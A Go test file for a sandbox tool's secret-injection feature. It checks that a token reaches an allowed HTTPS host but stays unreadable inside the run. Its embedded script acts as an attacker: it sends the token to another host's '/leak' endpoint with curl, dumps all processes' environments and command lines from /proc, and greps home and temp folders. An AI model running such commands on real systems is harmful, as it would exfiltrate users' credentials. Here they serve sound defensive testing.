//go:build linux

package main

import (
	"bufio"
	"bytes"
	"crypto/rand"
	"crypto/tls"
	"encoding/hex"
	"fmt"
	"io"
	"net/http"
	"net/http/cgi"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"testing"

	"github.com/skill-sandbox/skill-sandbox/internal/testca"
)

// secretServer is an HTTPS server on the host's loopback with a
// certificate of a CA of the test's own (in caFile, which the supervisor
// trusts through SSL_CERT_FILE: the host's trust store as crypto/x509
// reads it), recording the Authorization header of each request, and
// serving a git repository through git-http-backend that wants the
// secret as the password.
type secretServer struct {
	addr, caFile string
	mu           sync.Mutex
	auth         []string
}

func (s *secretServer) seen() []string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return append([]string(nil), s.auth...)
}

func newSecretServer(t *testing.T, value string) *secretServer {
	t.Helper()
	ca, err := testca.New()
	if err != nil {
		t.Fatal(err)
	}
	cert, err := ca.Server("127.0.0.1")
	if err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	s := &secretServer{caFile: filepath.Join(dir, "ca.pem")}
	if err := os.WriteFile(s.caFile, ca.PEM, 0o644); err != nil {
		t.Fatal(err)
	}
	repos := gitRepo(t, dir)
	backend := &cgi.Handler{Path: "/usr/lib/git-core/git-http-backend",
		Env: []string{"GIT_PROJECT_ROOT=" + repos, "GIT_HTTP_EXPORT_ALL=1"}}
	mux := http.NewServeMux()
	mux.HandleFunc("/api/", func(w http.ResponseWriter, r *http.Request) {
		s.mu.Lock()
		s.auth = append(s.auth, r.Header.Get("Authorization"))
		s.mu.Unlock()
		if r.Header.Get("Authorization") != "Bearer "+value {
			http.Error(w, "unauthorized", http.StatusUnauthorized)
			return
		}
		fmt.Fprintf(w, "ok %s", r.URL.Path)
	})
	mux.HandleFunc("/git/", func(w http.ResponseWriter, r *http.Request) {
		if _, pass, ok := r.BasicAuth(); !ok || pass != value {
			w.Header().Set("WWW-Authenticate", `Basic realm="git"`)
			http.Error(w, "unauthorized", http.StatusUnauthorized)
			return
		}
		r.URL.Path = strings.TrimPrefix(r.URL.Path, "/git")
		backend.ServeHTTP(w, r)
	})
	srv := httptest.NewUnstartedServer(mux)
	srv.TLS = &tls.Config{Certificates: []tls.Certificate{cert}}
	srv.StartTLS()
	t.Cleanup(srv.Close)
	s.addr = srv.Listener.Addr().String()
	return s
}

// gitRepo makes a bare repository repo.git with one commit under a new
// folder of dir and returns that folder.
func gitRepo(t *testing.T, dir string) string {
	t.Helper()
	work, repos := filepath.Join(dir, "work"), filepath.Join(dir, "repos")
	for _, args := range [][]string{
		{"init", "-q", "-b", "main", work},
		{"-C", work, "-c", "user.name=t", "-c", "user.email=t@example.com", "commit", "-q", "--allow-empty", "-m", "first"},
		{"clone", "-q", "--bare", work, filepath.Join(repos, "repo.git")},
	} {
		if out, err := exec.Command("git", args...).CombinedOutput(); err != nil {
			t.Fatalf("git %v: %v\n%s", args, err, out)
		}
	}
	if out, err := exec.Command("chmod", "-R", "a+rX", dir).CombinedOutput(); err != nil {
		t.Fatalf("chmod: %v\n%s", err, out)
	}
	return repos
}

// npmUndici is the undici that npm ships (Debian's npm package): node's
// fetch is undici's, and undici's EnvHttpProxyAgent uses the proxy
// variables, which node 20's global fetch ignores.
const npmUndici = "/usr/lib/node_modules/npm/node_modules/undici"

// secretsScript is the script of TestSecretCLI: curl, Python urllib and
// requests, node (https over a CONNECT tunnel, and fetch: undici's, with
// its EnvHttpProxyAgent, since node 20's global fetch ignores the proxy
// variables and a second undici's Wasm parser does not fit the address
// space limit) and git over HTTPS send the placeholder of TOKEN to the
// secret's host, curl sends it to another allowed host too; then the
// script prints what the run can see (its environment, every process's
// environ and command line, the CA bundle and the temp and home folders)
// and leaves a python process holding its request in memory until stdin
// ends.
const secretsScript = `set -u
base="https://$HOSTPORT"
echo "curl: $(curl -sS --max-time 20 -H "Authorization: Bearer $TOKEN" "$base/api/curl")"
echo "python: $(python3 -c '
import os, urllib.request
r = urllib.request.Request(os.environ["BASE"] + "/api/python", headers={"Authorization": "Bearer " + os.environ["TOKEN"]})
print(urllib.request.urlopen(r, timeout=20).read().decode())' 2>&1)"
echo "requests: $(python3 -c '
import os, requests
r = requests.get(os.environ["BASE"] + "/api/requests", headers={"Authorization": "Bearer " + os.environ["TOKEN"]}, timeout=20)
print(r.text)' 2>&1 | tail -1)"
echo "node: $(node -e '
const http = require("http"), tls = require("tls");
const u = new URL(process.env.BASE + "/api/node"), p = new URL(process.env.HTTPS_PROXY);
http.request({host: p.hostname, port: p.port, method: "CONNECT", path: u.host}).on("connect", (res, sock) => {
  const s = tls.connect({socket: sock, host: u.hostname}, () =>
    s.write("GET " + u.pathname + " HTTP/1.1\r\nHost: " + u.host + "\r\nAuthorization: Bearer " + process.env.TOKEN + "\r\nConnection: close\r\n\r\n"));
  let d = ""; s.on("data", c => d += c); s.on("end", () => console.log(d.split("\r\n\r\n")[1]));
  s.on("error", e => console.log("error " + e.message));
}).end();' 2>&1)"
echo "fetch: $(node --no-warnings -e '
const undici = require(process.env.UNDICI);
undici.fetch(process.env.BASE + "/api/fetch", {dispatcher: new undici.EnvHttpProxyAgent(), headers: {authorization: "Bearer " + process.env.TOKEN}})
  .then(r => r.text()).then(console.log, e => console.log("error " + (e.cause ? e.cause.message : e.message)));' 2>&1)"
git clone -q "https://x-access-token:$TOKEN@$HOSTPORT/git/repo.git" "$HOME/clone" 2>&1 && echo "git: $(git -C "$HOME/clone" log --format=%s)"
echo "other: $(curl -sS --max-time 20 -H "Authorization: Bearer $TOKEN" "http://$OTHER/leak?t=$TOKEN")"
echo "--- scan"
env
cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | tr '\0' '\n'
cat "$SSL_CERT_FILE"
grep -rs . "$HOME" /tmp "$(dirname "$SSL_CERT_FILE")" 2>/dev/null | head -c 1000000
echo "--- memory"
exec python3 -c '
import os, sys, urllib.request
r = urllib.request.Request(os.environ["BASE"] + "/api/held", headers={"Authorization": "Bearer " + os.environ["TOKEN"]})
held = urllib.request.urlopen(r, timeout=20).read()
print("ready", flush=True)
sys.stdin.read()'
`

// TestSecretCLI is the end-to-end test of --secret: real clients in the
// sandbox reach an HTTPS server on the host's loopback with the secret
// injected, through the proxy that terminates their TLS with the run's
// CA, which they trust through the variables the run sets; the value is
// nowhere the run can read (environment, /proc, files, the memory of a
// process that sent it), another host gets the placeholder, and the
// record names the secret and its host, never the value.
func TestSecretCLI(t *testing.T) { testSecretCLI(t, "native") }

// TestSecretCLIGVisor is TestSecretCLI under the gvisor backend: the
// same clients, the same proxy, the same CA variables and the same
// record. The host cannot read the script's memory there (it is the
// Sentry's), so the memory scan finds no process of the run.
func TestSecretCLIGVisor(t *testing.T) {
	needRunsc(t)
	testSecretCLI(t, "gvisor")
}

// testSecretCLI is TestSecretCLI with the run under backend.
func testSecretCLI(t *testing.T, backend string) {
	for _, tool := range []string{"curl", "python3", "node", "git"} {
		if _, err := exec.LookPath(tool); err != nil {
			if os.Getenv("CI") == "true" {
				t.Fatalf("%s not installed", tool)
			}
			t.Skipf("%s not installed", tool)
		}
	}
	if _, err := os.Stat("/usr/lib/git-core/git-http-backend"); err != nil {
		t.Skip("git-http-backend not installed")
	}
	skill := newSkill(t, map[string]string{"scripts/secrets.sh": secretsScript})
	requireSandbox(t, skill)
	var b [16]byte
	rand.Read(b[:])
	value := "ghp_" + hex.EncodeToString(b[:])
	marker := hex.EncodeToString(b[:8])
	srv := newSecretServer(t, value)
	other := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprintf(w, "%s %s", r.Header.Get("Authorization"), r.URL.RawQuery)
	}))
	defer other.Close()
	otherAddr := other.Listener.Addr().String()

	cmd := exec.Command(cliBinary, "audit", "--quiet", "--backend", backend, "--timeout", "90s", "--memory", "1024",
		"--allow-host", srv.addr, "--allow-host", otherAddr, "--secret", "TOKEN@"+srv.addr,
		"--env", "HOSTPORT="+srv.addr, "--env", "BASE=https://"+srv.addr, "--env", "OTHER="+otherAddr,
		"--env", "SCAN_MARKER="+marker, "--env", "UNDICI="+npmUndici, skill, "secrets.sh")
	cmd.Env = append(os.Environ(), "TOKEN="+value, "SSL_CERT_FILE="+srv.caFile)
	stdin, _ := cmd.StdinPipe()
	stdout, _ := cmd.StdoutPipe()
	var stderr bytes.Buffer
	cmd.Stderr = &stderr
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	sc := bufio.NewScanner(io.TeeReader(stdout, &out))
	sc.Buffer(make([]byte, 1<<20), 4<<20)
	for sc.Scan() && sc.Text() != "ready" {
	}
	mem := scanMemory(t, marker, value)
	stdin.Close()
	io.Copy(io.Discard, stdout)
	cmd.Wait()

	got := out.String()
	wants := []string{"curl: ok /api/curl", "python: ok /api/python", "node: ok /api/node", "git: first", "ready"}
	if backend == "gvisor" && os.Geteuid() != 0 {
		// Rootless runsc has no cgroup and the run no watch: RLIMIT_AS
		// stays at --memory, too little for the address space node
		// reserves for undici's WebAssembly (docs/backends.md).
		t.Log("rootless gvisor: node fetch not tested")
	} else if _, err := os.Stat(npmUndici); err == nil || os.Getenv("CI") == "true" {
		wants = append(wants, "fetch: ok /api/fetch")
	} else {
		t.Log("npm's undici not found: node fetch not tested")
	}
	if exec.Command("/usr/bin/python3", "-c", "import requests").Run() == nil || os.Getenv("CI") == "true" {
		wants = append(wants, "requests: ok /api/requests")
	} else {
		t.Log("python3-requests not installed: requests not tested")
	}
	for _, want := range wants {
		if !strings.Contains(got, want+"\n") {
			t.Errorf("no %q in the script's output:\n%s\nstderr:\n%s", want, got, stderr.String())
		}
	}
	if strings.Contains(got, value) {
		t.Errorf("the secret's value is visible inside the run:\n%s", got)
	}
	placeholder := ""
	for _, l := range strings.Split(got, "\n") {
		if v, ok := strings.CutPrefix(l, "TOKEN="); ok {
			placeholder = v
		}
	}
	if !strings.HasPrefix(placeholder, "SKILL_SANDBOX_SECRET_") {
		t.Errorf("TOKEN inside the run is %q", placeholder)
	}
	if !strings.Contains(got, "other: Bearer "+placeholder+" t="+placeholder+"\n") {
		t.Errorf("another host did not get the placeholder:\n%s", got)
	}
	if strings.Contains(got, "PRIVATE KEY") {
		t.Error("a private key is readable inside the run")
	}
	t.Logf("memory scan: %+v", mem)
	if mem.scanned && !mem.placeholder {
		t.Error("the memory scan did not find the placeholder the run sent: it cannot be trusted")
	}
	if mem.value != "" {
		t.Errorf("the secret's value is in the memory of %s", mem.value)
	}
	for _, a := range srv.seen() {
		if a != "Bearer "+value {
			t.Errorf("the server saw Authorization %q", a)
		}
	}
	rec := stderrRecord(t, stderr.String())
	if s := rec.Network.Secrets; len(s) != 1 || s[0] != "TOKEN "+srv.addr {
		t.Errorf("record network.secrets %q", s)
	}
	injected := 0
	for _, c := range rec.Network.Connections {
		if len(c.Secrets) > 0 {
			injected++
			if c.Secrets[0] != "TOKEN" || c.Host != "127.0.0.1" {
				t.Errorf("connection %+v", c)
			}
		}
	}
	if injected < 5 { // curl, python, (requests,) node, git (at least one), held
		t.Errorf("%d connections with the secret injected, want 5 or more: %+v", injected, rec.Network.Connections)
	}
	if strings.Contains(stderr.String(), value) {
		t.Error("the value is in the caller's stderr or the record")
	}
}

// memScan is what scanMemory found.
type memScan struct {
	scanned     bool   // some process's memory was read
	placeholder bool   // the placeholder's prefix was found (the scan works)
	value       string // the process holding the value, "" for none
}

// scanMemory reads, from the host, the memory of every process whose
// environment holds SCAN_MARKER=marker (the run's processes) and looks
// for value. Reading another user's process needs root (CAP_SYS_PTRACE);
// without it nothing is scanned and the test says so.
func scanMemory(t *testing.T, marker, value string) memScan {
	var res memScan
	procs, _ := filepath.Glob("/proc/[0-9]*")
	for _, p := range procs {
		env, err := os.ReadFile(filepath.Join(p, "environ"))
		if err != nil || !bytes.Contains(env, []byte("SCAN_MARKER="+marker)) {
			continue
		}
		maps, err := os.ReadFile(filepath.Join(p, "maps"))
		mem, err2 := os.Open(filepath.Join(p, "mem"))
		if err != nil || err2 != nil {
			continue
		}
		for _, line := range strings.Split(string(maps), "\n") {
			f := strings.Fields(line)
			if len(f) < 2 || !strings.HasPrefix(f[1], "r") {
				continue
			}
			lo, hi, _ := strings.Cut(f[0], "-")
			a, _ := strconv.ParseUint(lo, 16, 64)
			z, _ := strconv.ParseUint(hi, 16, 64)
			if z <= a || z-a > 1<<30 {
				continue
			}
			buf := make([]byte, z-a)
			n, _ := mem.ReadAt(buf, int64(a))
			if n > 0 {
				res.scanned = true
			}
			if bytes.Contains(buf[:n], []byte("SKILL_SANDBOX_SECRET_")) {
				res.placeholder = true
			}
			if bytes.Contains(buf[:n], []byte(value)) {
				res.value = p
			}
		}
		mem.Close()
	}
	if !res.scanned {
		t.Log("no process memory of the run could be read (needs root): memory not scanned")
	}
	return res
}

// TestSecretCLIRefusals: a bad spec is a usage error; a secret whose
// variable is unset, or whose host the allow list does not name, refuses
// the run before it starts, saying what to do.
func TestSecretCLIRefusals(t *testing.T) {
	skill := newSkill(t, nil)
	tests := []struct {
		args []string
		code int
		want string
	}{
		{[]string{"--secret", "TOKEN"}, exitUsage, "want NAME@HOST[:PORT]"},
		{[]string{"--secret", "TOKEN@*.example.com", "--allow-host", "*.example.com"}, exitUsage, "wildcard host is refused"},
		{[]string{"--secret", "SKILL_TEST_UNSET_VAR@api.example.com", "--allow-host", "api.example.com"}, exitRefused,
			"the variable SKILL_TEST_UNSET_VAR is not set in the caller's environment"},
		{[]string{"--secret", "HOME@api.example.com"}, exitRefused, "Secrets need AllowHosts naming their hosts (add --allow-host HOST)"},
		{[]string{"--secret", "PATH@api.example.com", "--allow-host", "other.example.com"}, exitRefused, "add --allow-host api.example.com:443"},
	}
	for _, tt := range tests {
		args := append(append([]string{"audit", "--quiet"}, tt.args...), skill, "ok.sh")
		r := runCLI(t, "", args...)
		if r.Code != tt.code || !strings.Contains(r.Stderr, tt.want) {
			t.Errorf("%v: exit %d, want %d with %q:\n%s", tt.args, r.Code, tt.code, tt.want, r.Stderr)
		}
	}
}
